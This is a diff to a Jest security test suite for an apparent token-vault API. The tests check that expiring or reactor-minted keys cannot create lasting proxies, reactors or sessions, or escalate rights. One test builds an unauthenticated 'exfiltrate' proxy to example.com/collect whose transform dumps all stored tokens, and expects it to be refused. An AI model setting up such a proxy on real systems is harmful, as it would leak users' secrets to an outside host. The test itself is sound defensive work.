@@ -4,19 +4,24 @@
 // (docs/security.md, "Keys and what they can do").
 import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
 import { hashKey } from '../../src/auth/api-keys.js';
+import type { KeyIndexEntry } from '../../src/auth/principal.js';
+import { ApplicationDirectory } from '../../src/domain/applications/directory.js';
+import { BtKeys } from '../../src/domain/reactors/bt-keys.js';
+import { decode } from '../../src/store/codec.js';
 import { EtcdStore } from '../../src/store/etcd.js';
 import { keys } from '../../src/store/keys.js';
 import { createApplication, createTenant, startTestApi, testEtcdEndpoints, type TestApi } from '../support/api.js';
-import { client } from '../support/http.js';
+import { call, client } from '../support/http.js';
 
 const MERGE = { 'Content-Type': 'application/merge-patch+json' };
 
 let api: TestApi;
+let tenantId: string;
 let managementKey: string;
 
 beforeAll(async () => {
   api = await startTestApi();
-  ({ managementKey } = await createTenant(api.url, api.operatorKey));
+  ({ tenantId, managementKey } = await createTenant(api.url, api.operatorKey));
 });
 
 afterAll(async () => {
@@ -152,6 +157,46 @@ test('a key that expires cannot make, extend or take over an application that ou
   ).toBe(201);
 });
 
+test('a key that expires writes no reactor or proxy with an application, which would use its rights after it is gone', async () => {
+  const temp = client(
+    api.url,
+    (
+      await app({
+        type: 'management',
+        permissions: ['application:update', 'proxy:create', 'reactor:create'],
+        expires_at: new Date(Date.now() + 3600_000).toISOString(),
+      })
+    ).key,
+  );
+  const user = await app({ type: 'private', permissions: ['token:use', 'token:read'] });
+  const code = 'module.exports = async (req) => ({ ...req, body: await req.bt.tokens.list() });';
+  // A proxy without require_auth would be a bearer key to the application's rights that never expires.
+  const proxy = await temp.post('/proxies', {
+    body: {
+      name: 'exfiltrate',
+      destination_url: 'https://example.com/collect',
+      require_auth: false,
+      application: { id: user.id },
+      request_transform: { code },
+    },
+  });
+  expect(proxy.status).toBe(403);
+  expect(proxy.body.detail).toContain('The key expires at');
+  expect(proxy.body.key).toBeUndefined();
+  const reactor = await temp.post('/reactors', {
+    body: { name: 'r', configuration: {}, code: 'module.exports = async () => ({});', application: { id: user.id } },
+  });
+  expect(reactor.status).toBe(403);
+  // Without an application it writes them as before.
+  expect(
+    (
+      await temp.post('/reactors', {
+        body: { name: 'r', configuration: {}, code: 'module.exports = async () => ({});' },
+      })
+    ).status,
+  ).toBe(201);
+});
+
 test("idempotency replays a key's own answer only: another key with the same BT-IDEMPOTENCY-KEY and body gets its own", async () => {
   const first = client(api.url, (await app({ type: 'private', permissions: ['token:create', 'token:read'] })).key);
   const second = client(api.url, (await app({ type: 'private', permissions: ['token:create'] })).key);
@@ -273,5 +318,107 @@ describe('a reactor or proxy runs with its application’s rights only when writ
     expect(
       (await builder.patch(`/proxies/${plain.body.id}`, { body: { name: 'renamed' }, headers: MERGE })).status,
     ).toBe(200);
+  });
+});
+
+describe('a key minted for reactor code (`bt`) makes nothing that outlives its 2-minute lease', () => {
+  test('it neither creates nor authorizes sessions (403), which would keep its rights for hours', async () => {
+    const reader = await app({ type: 'private', permissions: ['token:read'] });
+    const browser = await app({ type: 'public', permissions: ['token:create'] });
+    // As the worker holds it: minted the way an invocation mints it, then taken out of the worker.
+    const directory = new ApplicationDirectory(api.context.store, 60);
+    try {
+      const minted = new BtKeys(api.context.store, directory);
+      const readerBt = client(api.url, await minted.keyFor(tenantId, reader.id));
+      const browserBt = client(api.url, await minted.keyFor(tenantId, browser.id));
+      expect((await readerBt.get('/tokens')).status).toBe(200);
+
+      const session = (await client(api.url, browser.key).post('/sessions')).body;
+      const authorize = { nonce: session.nonce, permissions: ['token:read'] };
+      const refused = await readerBt.post('/sessions/authorize', { body: authorize });
+      expect(refused.status).toBe(403);
+      expect(refused.body.code).toBe('TV_FORBIDDEN');
+      expect(refused.body.detail).toContain('minted for reactor code');
+      // The nonce is still unspent: the application's own key authorizes the session.
+      expect((await client(api.url, reader.key).post('/sessions/authorize', { body: authorize })).status).toBe(204);
+
+      const created = await browserBt.post('/sessions');
+      expect(created.status).toBe(403);
+      expect(created.body.detail).toContain('minted for reactor code');
+    } finally {
+      await directory.stop();
+    }
+  });
+
+  test("its answers are replayed to no key that holds less: BT-IDEMPOTENCY-KEY after the application's rights narrowed", async () => {
+    const rules = (transform: string) => [
+      { description: 'all', priority: 1, container: '/', transform, permissions: ['token:create', 'token:read'] },
+    ];
+    const owner = await app({ type: 'private', rules: rules('reveal') });
+    const directory = new ApplicationDirectory(api.context.store, 60);
+    const request = { body: { type: 'token', data: 'replayed secret' }, headers: { 'BT-IDEMPOTENCY-KEY': 'bt-retry' } };
+    try {
+      const bt = client(api.url, await new BtKeys(api.context.store, directory).keyFor(tenantId, owner.id));
+      const first = await bt.post('/tokens', request);
+      expect(first.status).toBe(201);
+      expect(first.body.data).toBe('replayed secret');
+    } finally {
+      await directory.stop();
+    }
+    const narrowed = await client(api.url, managementKey).put(`/applications/${owner.id}`, {
+      body: { name: 'abuse', rules: rules('mask') },
+    });
+    expect(narrowed.status).toBe(200);
+    const own = client(api.url, owner.key);
+    // The application's own key (whose answers the minted key's share a scope with) now reads masked.
+    const token = (await own.post('/tokens', { body: { type: 'token', data: 'fresh secret' } })).body;
+    expect(token.data).not.toBe('fresh secret');
+
+    const replayed = await own.post('/tokens', request);
+    expect(replayed.body.data).toBeUndefined();
+    expect(replayed.status).toBe(409);
+    expect(replayed.body.code).toBe('TV_IDEMPOTENCY_CONFLICT');
+    expect(replayed.body.detail).toContain('rights');
+  });
+
+  test('an application id that comes back as a management application gets reactor code no management key', async () => {
+    // Only the operator chooses ids: it deletes the reactor's application and makes a management one under its id.
+    const asOperator = (method: string, path: string, body?: unknown) =>
+      call(api.url, method, path, { key: api.operatorKey, headers: { 'BT-TENANT-ID': tenantId }, body });
+    const id = crypto.randomUUID();
+    expect(
+      (
+        await asOperator('POST', '/applications', {
+          id,
+          name: 'reactor app',
+          type: 'private',
+          permissions: ['token:use'],
+        })
+      ).status,
+    ).toBe(201);
+    const reactor = await client(api.url, managementKey).post('/reactors', {
+      body: { name: 'r', configuration: {}, code: 'module.exports = async () => ({ raw: {} });', application: { id } },
+    });
+    expect(reactor.status).toBe(201);
+    expect((await asOperator('DELETE', `/applications/${id}`)).status).toBe(204);
+    expect(
+      (
+        await asOperator('POST', '/applications', {
+          id,
+          name: 'now management',
+          type: 'management',
+          permissions: ['webhook:create'],
+        })
+      ).status,
+    ).toBe(201);
+
+    const invoker = client(api.url, (await app({ type: 'private', permissions: ['token:use'] })).key);
+    const answer = await invoker.post(`/reactors/${reactor.body.id}/react`, { body: { args: {} } });
+    expect(answer.status).toBe(409);
+    expect(answer.body.detail).toContain('management application');
+    const mintedManagementKeys = (await api.context.store.range(keys.apiKeys))
+      .map((entry) => decode<KeyIndexEntry>('key-index', entry.value))
+      .filter((entry) => entry.parent?.application_id === id);
+    expect(mintedManagementKeys).toEqual([]);
   });
 });
